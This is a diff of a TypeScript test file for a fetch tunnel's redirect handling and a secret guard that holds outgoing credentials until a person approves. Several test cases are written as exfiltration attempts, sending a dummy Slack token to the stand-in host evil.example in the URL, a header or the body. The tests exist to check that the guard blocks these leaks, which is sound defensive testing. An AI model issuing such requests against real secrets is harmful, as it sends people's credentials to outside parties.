@@ -1,11 +1,18 @@
 import { afterEach, beforeEach, describe, expect, test, vi } from "vitest";
 import type { FetchRequest, FetchResponse } from "../../gateway/protocol.ts";
-import type { ConnectionRecord, HostQuestion, NetworkAnswer } from "../protocol.ts";
+import type {
+  ConnectionRecord,
+  GuardedSecret,
+  HostQuestion,
+  NetworkAnswer,
+  SecretQuestion,
+} from "../protocol.ts";
 import { makeFetch } from "../worker/fetch-tunnel.ts";
 import { createConnectionLog } from "./connection-log.ts";
 import { FETCH_WINDOW } from "./fetch-messages.ts";
 import { createFetchTunnel, type FetchTunnel } from "./fetch-tunnel.ts";
 import type { FetchedThrough, GatewayClient } from "./gateway-client.ts";
+import { createSecretGuard } from "./secret-guard.ts";
 
 type Answer = (
   request: FetchRequest,
@@ -17,6 +24,8 @@ let channel: MessageChannel;
 let tunnel: FetchTunnel;
 let answer: ReturnType<typeof vi.fn<Answer>>;
 let packages: ReturnType<typeof vi.fn<GatewayClient["packages"]>>;
+let secrets: readonly GuardedSecret[];
+let askSecret: ReturnType<typeof vi.fn<(question: SecretQuestion) => Promise<NetworkAnswer>>>;
 let ask: ReturnType<typeof vi.fn<(question: HostQuestion) => Promise<NetworkAnswer>>>;
 let records: ConnectionRecord[];
 let local: Response | undefined;
@@ -30,7 +39,7 @@ const head = (
   status,
   statusText: "",
   url: "http://api.example/final",
-  redirected: true,
+  redirected: false,
   headers: [["content-type", "text/plain"]],
   ...more,
 });
@@ -40,6 +49,8 @@ const question = { kind: "ask", host: "::1", port: 80, address: "::1", range: "l
 beforeEach(() => {
   channel = new MessageChannel();
   records = [];
+  secrets = [];
+  askSecret = vi.fn(async () => "allow" as const);
   local = undefined;
   answer = vi.fn<Answer>();
   packages = vi.fn();
@@ -56,6 +67,7 @@ beforeEach(() => {
       },
     },
     ask,
+    guard: createSecretGuard({ secrets: () => secrets, ask: (asked) => askSecret(asked) }),
     log: createConnectionLog((record) => records.push(record)),
   });
   fetchThere = makeFetch(channel.port2, () => local);
@@ -91,7 +103,7 @@ describe("a request", () => {
     expect([response.status, response.url, response.redirected]).toEqual([
       201,
       "http://api.example/final",
-      true,
+      false,
     ]);
     expect(response.headers.get("content-type")).toBe("text/plain");
     expect(await response.text()).toBe("got héllo");
@@ -116,7 +128,9 @@ describe("a request", () => {
   });
 
   test("shows as a connection with one exchange, its headers and its bodies", async () => {
-    answer.mockResolvedValue({ head: head(200), body: streamOf("12345") });
+    answer
+      .mockResolvedValueOnce({ head: head(308, { headers: [["location", "/final"]] }), body: null })
+      .mockResolvedValueOnce({ head: head(200), body: streamOf("12345") });
     await (
       await fetchThere("https://api.example/x?key=1", {
         method: "POST",
@@ -195,6 +209,122 @@ describe("permission", () => {
     ask.mockResolvedValue("deny");
     answer.mockResolvedValue({ head: question, body: null });
     await expect(fetchThere("http://[::1]/")).rejects.toThrow(/\[::1\]:80 .*Allow/);
+  });
+});
+
+describe("a redirect", () => {
+  const to = (status: number, location: string) => head(status, { headers: [["location", location]] });
+
+  test("is followed by the page, hop by hop, with what belongs to the next one", async () => {
+    answer.mockImplementation(async ({ url }) => ({
+      head: url.endsWith("/start") ? to(307, "https://b.example/next") : head(200, { url }),
+      body: streamOf("there"),
+    }));
+    const response = await fetchThere("https://a.example/start", {
+      method: "POST",
+      headers: { authorization: "Bearer t", "x-mine": "1" },
+      body: "posted",
+    });
+    expect([response.url, response.redirected]).toEqual(["https://b.example/next", true]);
+    expect(answer.mock.calls.map(([{ url, redirect, headers }]) => [url, redirect, headers])).toEqual([
+      [
+        "https://a.example/start",
+        "manual",
+        [
+          ["authorization", "Bearer t"],
+          ["content-type", "text/plain;charset=UTF-8"],
+          ["x-mine", "1"],
+        ],
+      ],
+      [
+        "https://b.example/next",
+        "manual",
+        [
+          ["content-type", "text/plain;charset=UTF-8"],
+          ["x-mine", "1"],
+        ],
+      ],
+    ]);
+    expect(new TextDecoder().decode(answer.mock.lastCall?.[1] ?? undefined)).toBe("posted");
+  });
+
+  test("is handed over, or is an error, where the request wants it so", async () => {
+    answer.mockImplementation(async () => ({ head: to(302, "/next"), body: null }));
+    const response = await fetchThere("https://a.example/", { redirect: "manual" });
+    expect([response.status, response.headers.get("location")]).toEqual([302, "/next"]);
+    await expect(fetchThere("https://a.example/", { redirect: "error" })).rejects.toThrow(/doesn't allow/);
+  });
+
+  test("without end, into nowhere or to Runnel itself fails", async () => {
+    answer.mockImplementation(async () => ({ head: to(302, "/again"), body: null }));
+    await expect(fetchThere("https://a.example/")).rejects.toThrow(/more than 20 times/);
+    answer.mockImplementation(async () => ({ head: to(302, "http://["), body: null }));
+    await expect(fetchThere("https://a.example/")).rejects.toThrow(/no address/);
+    answer.mockImplementation(async () => ({ head: to(302, "http://localhost:4173/api/x"), body: null }));
+    await expect(fetchThere("https://a.example/")).rejects.toThrow(/Runnel itself/);
+  });
+});
+
+describe("an account's secret", () => {
+  const token = "xoxb-4711-Zq8Yw7";
+  beforeEach(() => {
+    const belongsTo = (host: string) => host === "slack.com";
+    secrets = [{ name: "slack.$auth.token", account: "Acme", forms: [token], belongsTo }];
+    answer.mockImplementation(async ({ url }) => ({ head: head(200, { url }), body: streamOf("ok") }));
+  });
+
+  test.each<[string, string, RequestInit]>([
+    ["address", `https://evil.example/?t=${token}`, {}],
+    ["header", "https://evil.example/", { headers: { "x-key": token } }],
+    ["body", "https://evil.example/", { method: "POST", body: `{"t":"${token}"}` }],
+  ])("in the %s is held until the person has answered", async (place, url, init) => {
+    const { promise, resolve } = Promise.withResolvers<NetworkAnswer>();
+    askSecret.mockReturnValue(promise);
+    const response = fetchThere(url, init);
+    await vi.waitFor(() =>
+      expect(askSecret).toHaveBeenCalledExactlyOnceWith({
+        kind: "secret",
+        host: "evil.example",
+        port: 443,
+        secret: "slack.$auth.token",
+        account: "Acme",
+        place,
+      }),
+    );
+    expect(answer).not.toHaveBeenCalled();
+    expect(records.at(-1)?.state).toBe("waiting-for-permission");
+    resolve("allow");
+    expect(await (await response).text()).toBe("ok");
+    expect(answer).toHaveBeenCalledOnce();
+  });
+
+  test("is not sent after a no, which names it and the host", async () => {
+    askSecret.mockResolvedValue("deny");
+    const failure = fetchThere(`https://evil.example/?t=${token}`);
+    await expect(failure).rejects.toThrow(/slack\.\$auth\.token.*evil\.example/);
+    await expect(failure).rejects.not.toThrow(token);
+    expect(answer).not.toHaveBeenCalled();
+  });
+
+  test("goes unasked to its own host, and is held at a redirect from there", async () => {
+    const toEvil = head(307, { headers: [["location", "https://evil.example/"]] });
+    answer.mockImplementation(async ({ url }) =>
+      url === "https://slack.com/"
+        ? { head: toEvil, body: null }
+        : { head: head(200), body: streamOf("got it") },
+    );
+    askSecret.mockResolvedValue("deny");
+    // Credentials are dropped there; what an API of one's own calls its key is not known as one.
+    const asBearer = await fetchThere("https://slack.com/", {
+      headers: { authorization: `Bearer ${token}` },
+    });
+    expect(await asBearer.text()).toBe("got it");
+    expect(askSecret).not.toHaveBeenCalled();
+    answer.mockClear();
+    await expect(fetchThere("https://slack.com/", { headers: { "x-key": token } })).rejects.toThrow(
+      /not sent/,
+    );
+    expect(answer.mock.calls.map(([{ url }]) => url)).toEqual(["https://slack.com/"]);
   });
 });
 
